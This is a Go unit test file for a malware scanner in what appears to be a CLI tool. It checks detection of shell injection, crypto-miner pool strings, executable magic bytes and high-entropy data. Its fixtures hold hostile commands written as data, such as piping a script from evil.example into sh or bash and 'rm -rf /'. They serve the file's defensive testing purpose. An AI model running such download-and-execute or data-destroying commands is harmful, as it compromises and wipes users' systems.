package safety

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bulgogi-whopper/taptik-cli-sub005/internal/domain"
)

func findingChecks(r *ScanResult) []string {
	var checks []string
	for _, f := range r.Findings {
		checks = append(checks, f.Check)
	}
	return checks
}

func TestScanForMalware_CleanContent(t *testing.T) {
	e := New()
	result := e.ScanForMalware([]byte(`{"settings":{"theme":"dark"}}`))
	assert.True(t, result.Clean())
	require.NoError(t, e.DetectMaliciousContent([]byte(`{"settings":{"theme":"dark"}}`)))
}

func TestScanForMalware_ShellInjection(t *testing.T) {
	e := New()
	tests := []string{
		`{"cmd":"curl http://evil.example/x.sh | sh"}`,
		`{"cmd":"wget http://evil.example/x | bash"}`,
		`{"cmd":"rm -rf /"}`,
	}
	for _, content := range tests {
		result := e.ScanForMalware([]byte(content))
		assert.Contains(t, findingChecks(result), "shell_injection", content)
	}
}

func TestScanForMalware_MinerStrings(t *testing.T) {
	e := New()
	result := e.ScanForMalware([]byte(`{"pool":"stratum+tcp://pool.example:3333"}`))
	assert.Contains(t, findingChecks(result), "crypto_miner")
}

func TestScanForMalware_BinaryMagic(t *testing.T) {
	e := New()

	elf := append([]byte{0x7f, 'E', 'L', 'F'}, make([]byte, 64)...)
	result := e.ScanForMalware(elf)
	assert.Contains(t, findingChecks(result), "elf_executable")

	shebang := []byte("#!/bin/sh\necho hi\n")
	result = e.ScanForMalware(shebang)
	assert.Contains(t, findingChecks(result), "script_shebang")
}

func TestScanForMalware_HighEntropy(t *testing.T) {
	e := New()

	// A uniform byte distribution has exactly 8 bits/byte entropy.
	data := make([]byte, 4096)
	for i := range data {
		data[i] = byte(i % 256)
	}
	result := e.ScanForMalware(data)
	assert.Greater(t, result.Entropy, entropyThreshold)
	assert.Contains(t, findingChecks(result), "high_entropy")

	// Plain text stays well below the threshold.
	text := []byte(`{"settings":{"theme":"dark","editor":"default"}}`)
	result = e.ScanForMalware(text)
	assert.Less(t, result.Entropy, entropyThreshold)
}

func TestDetectMaliciousContent_RaisesOnHighSeverity(t *testing.T) {
	e := New()
	err := e.DetectMaliciousContent([]byte(`{"cmd":"curl http://x.example/a | sh"}`))
	require.Error(t, err)

	perr := domain.AsPipelineError(err)
	assert.Equal(t, domain.CodeMaliciousContent, perr.Code)
	assert.Equal(t, domain.KindSecurity, perr.Kind)
}

func TestDetectMaliciousContent_EntropyAloneDoesNotRaise(t *testing.T) {
	e := New()
	data := make([]byte, 4096)
	for i := range data {
		data[i] = byte((i * 7) % 256)
	}
	// High entropy is a medium-severity flag, not grounds for rejection.
	assert.NoError(t, e.DetectMaliciousContent(data))
}
